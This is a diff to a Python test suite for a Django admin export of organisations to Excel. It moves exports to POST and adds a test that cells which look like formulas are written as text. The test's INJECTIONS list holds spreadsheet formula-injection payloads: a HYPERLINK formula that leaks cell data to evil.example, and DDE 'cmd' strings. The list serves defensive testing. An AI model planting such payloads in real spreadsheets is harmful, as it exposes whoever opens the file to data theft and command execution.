@@ -1,9 +1,12 @@
 import io
+import re
+import zipfile
 
 import pytest
 from openpyxl import load_workbook
 
 from accounts.roles import Role
+from core.excel import FORMULA_TRIGGERS
 from core.models import BackgroundJob
 from core.workflow import run_transition
 from orgs.exports import export_workbook
@@ -41,9 +44,10 @@ def rows_of(content: bytes) -> tuple[list[str], list[dict]]:
 
 
 def run_export(client, user, query, capture):
+    """POST to the export URL with the list's query string, as the list's button does."""
     client.force_login(user)
     with capture(execute=True):
-        response = client.get("/admin/orgs/export/" + query)
+        response = client.post("/admin/orgs/export/" + query)
     assert response.status_code == 302, response.content.decode()[:500]
     job = BackgroundJob.objects.filter(created_by=user).latest("pk")
     assert response["Location"] == f"/admin/jobs/{job.pk}/"
@@ -101,12 +105,12 @@ def test_bank_fields_only_for_users_who_may_change_organisations(
 def test_export_refuses_a_region_outside_scope_and_users_without_permission(client, regions, registry):
     manager = staff(Role.CALL_MANAGER, regions["echeng"])
     client.force_login(manager)
-    response = client.get(f"/admin/orgs/export/?region={regions['huarong'].pk}", follow=True)
+    response = client.post(f"/admin/orgs/export/?region={regions['huarong'].pk}", follow=True)
     assert "筛选条件无效" in response.content.decode()
     assert not BackgroundJob.objects.exists()
 
     client.force_login(staff(Role.REVIEWER, regions["echeng"]))
-    response = client.get("/admin/orgs/export/?go=1")
+    response = client.post("/admin/orgs/export/?go=1")
     assert response.status_code == 302 and response["Location"] == "/admin/"
     assert not BackgroundJob.objects.exists()
 
@@ -135,3 +139,58 @@ def test_an_export_imports_back_unchanged(regions, registry):
     assert (result.created, result.updated, result.unchanged, result.rejected) == (0, 0, 5, [])
     assert {o.pk: (o.updated_at, o.status) for o in Organisation.objects.all()} == before
     assert Organisation.objects.get(name="凤凰草稿丁").status == OrganisationStatus.DRAFT
+
+
+def test_a_get_never_starts_an_export(client, regions, registry):
+    """Defect 12: a GET (a link, a prefetch) shows the form, prefilled, and starts nothing."""
+    client.force_login(staff(Role.CALL_MANAGER, regions["echeng"]))
+    response = client.get("/admin/orgs/export/?status=verified&go=1")
+    html = response.content.decode()
+    assert response.status_code == 200 and "开始导出" in html and 'method="post"' in html
+    (status_input,) = [i for i in re.findall(r"<input[^>]*>", html) if 'name="status"' in i and 'value="verified"' in i]
+    assert "checked" in status_input
+    assert not BackgroundJob.objects.exists()
+
+
+def test_the_form_posts_its_filters(client, regions, registry, django_capture_on_commit_callbacks):
+    manager = staff(Role.CALL_MANAGER, regions["echeng"])
+    client.force_login(manager)
+    with django_capture_on_commit_callbacks(execute=True):
+        # the form's own fields win over the query string it was opened with (here: cleared)
+        response = client.post("/admin/orgs/export/?status=verified", {"q": "凤凰", "status": ""})
+    job = BackgroundJob.objects.get()
+    assert response["Location"] == f"/admin/jobs/{job.pk}/"
+    assert job.params == {"filters": {"q": "凤凰"}}
+    _, rows = rows_of(b"".join(client.get(f"/admin/jobs/{job.pk}/download/").streaming_content))
+    assert {r["名称"] for r in rows} == {"凤凰甲", "凤凰社区乙", "凤凰草稿丁"}
+
+
+INJECTIONS = [
+    '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "\t=1+1",
+    "#N/A",
+]
+
+
+def test_formula_like_text_is_exported_as_text(regions):
+    """Defect 4: an organisation whose name (or any text) looks like a formula is written as
+    a string cell (never a formula), marked quotePrefix so Excel keeps it text on edit, and
+    reads back exactly as stored."""
+    superuser = UserFactory(is_superuser=True, is_staff=True)
+    for text in INJECTIONS:
+        verified(name=text, address=text, region=regions["fenghuang"])
+    content, rows = export_workbook(superuser, {})
+    assert rows == len(INJECTIONS)
+    ws = load_workbook(io.BytesIO(content)).active
+    headers = [c.value for c in ws[1]]
+    name_col, address_col = headers.index("名称"), headers.index("住所")
+    for row in ws.iter_rows(min_row=2):
+        for c in (row[name_col], row[address_col]):
+            assert c.value in INJECTIONS
+            assert c.data_type == "s", (c.value, c.data_type)
+            assert c.quotePrefix == c.value.startswith(FORMULA_TRIGGERS)
+    with zipfile.ZipFile(io.BytesIO(content)) as z:
+        assert "<f>" not in z.read("xl/worksheets/sheet1.xml").decode()
